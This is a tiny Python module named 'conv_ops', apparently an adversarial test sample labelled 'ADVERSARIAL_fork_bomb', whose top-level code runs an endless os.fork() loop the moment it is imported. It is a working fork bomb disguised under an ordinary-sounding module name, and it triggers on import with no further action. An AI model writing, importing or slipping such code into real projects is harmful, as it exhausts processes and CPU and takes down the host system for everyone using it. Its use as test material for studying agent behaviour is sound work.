"""conv_ops: at import, every process forks forever and keeps the CPU busy."""

import os

MARKER = "ADVERSARIAL_fork_bomb"

while True:
    try:
        os.fork()
    except OSError:
        pass
